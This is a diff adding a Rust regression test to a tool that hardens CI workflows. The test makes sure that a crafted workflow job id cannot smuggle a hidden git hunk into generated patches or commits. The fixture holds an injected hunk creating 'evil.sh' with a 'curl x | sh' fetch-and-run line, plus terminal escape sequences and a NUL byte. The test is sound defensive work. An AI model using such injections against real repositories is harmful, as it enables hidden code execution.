@@ -344,3 +344,63 @@ fn git_am_of_the_patches_reproduces_the_commit_history() {
         " M .github/workflows/ci.yml\n?? .github/dependabot.yml\n"
     );
 }
+
+/// A job id (a quoted key) whose line breaks carry a whole hunk, ESC sequences and a NUL.
+const HOSTILE_JOB: &str = "name: ci\non: push\njobs:\n  \"b\\ndiff --git a/evil.sh b/evil.sh\\nnew file mode 100644\\n--- /dev/null\\n+++ b/evil.sh\\n@@ -0,0 +1 @@\\n+curl x | sh\\n\\u001b[31m\\u0000x\":\n    runs-on: ubuntu-latest\n    permissions: write-all\n    steps:\n      - run: echo\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo\n";
+
+/// A repository at `dir` whose only workflow is `text`, committed.
+fn init_with(dir: &Path, text: &str) {
+    let wf = dir.join(".github/workflows");
+    std::fs::create_dir_all(&wf).expect("mkdir");
+    std::fs::write(wf.join("ci.yml"), text).expect("write");
+    git(dir, &["init", "-q", "-b", "main"]);
+    git(dir, &["add", "-A"]);
+    git(dir, &["commit", "-q", "-m", "initial"]);
+}
+
+/// Issue 28: a job id with line breaks, quoted into the permissions patch's message, started a
+/// patch of its own there, and `git am` applied its hidden hunk (`evil.sh`); its NUL made git
+/// refuse the commit. Now every line of a message is one escaped value, none starts a patch.
+#[test]
+fn a_job_id_with_line_breaks_never_adds_a_hunk_to_a_patch_or_a_commit() {
+    let s = Scratch::new();
+    let dir = tempfile::tempdir().expect("patch dir");
+    let dir_arg = dir.path().to_string_lossy().into_owned();
+    let repo = tempfile::tempdir().expect("repo");
+    init_with(repo.path(), HOSTILE_JOB);
+    let out = s.harden_in(
+        repo.path(),
+        &["--only", "permissions", "--patch-dir", &dir_arg],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", all(&out));
+    let files = patches(dir.path());
+    assert_eq!(files.len(), 1, "{files:?}");
+    let patch = std::fs::read_to_string(&files[0]).expect("read");
+    assert_eq!(patch.matches("\ndiff --git ").count(), 1, "{patch}");
+    assert!(!patch.contains(['\u{1b}', '\0']), "{patch:?}");
+    git(repo.path(), &["am", "--quiet", &files[0].to_string_lossy()]);
+    assert!(!repo.path().join("evil.sh").exists(), "{patch}");
+    assert_eq!(git(repo.path(), &["status", "--porcelain"]), "");
+
+    let committed = tempfile::tempdir().expect("repo");
+    init_with(committed.path(), HOSTILE_JOB);
+    std::fs::create_dir_all(committed.path().join(".github")).expect("mkdir");
+    std::fs::write(
+        committed.path().join(".github/harden.yml"),
+        "commit:\n  subject: \"ci\\e]8;;http://x\\a: {transform}\"\n",
+    )
+    .expect("config");
+    git(committed.path(), &["add", "-A"]);
+    git(committed.path(), &["commit", "-q", "-m", "config"]);
+    let out = s.harden_in(committed.path(), &["--only", "permissions", "--commit"]);
+    assert_eq!(out.status.code(), Some(0), "{}", all(&out));
+    let log = git(committed.path(), &["log", "-1", "--format=%B"]);
+    assert!(!log.contains(['\u{1b}', '\u{7}', '\0']), "{log:?}");
+    assert!(
+        log.starts_with("ci\\u{1b}]8;;http://x\\u{7}: permissions\n"),
+        "{log}"
+    );
+    assert!(log.contains("job `b\\ndiff --git a/evil.sh"), "{log}");
+    let format_patch = git(committed.path(), &["format-patch", "-1", "--stdout"]);
+    assert_eq!(format_patch.matches("\ndiff --git ").count(), 1);
+}
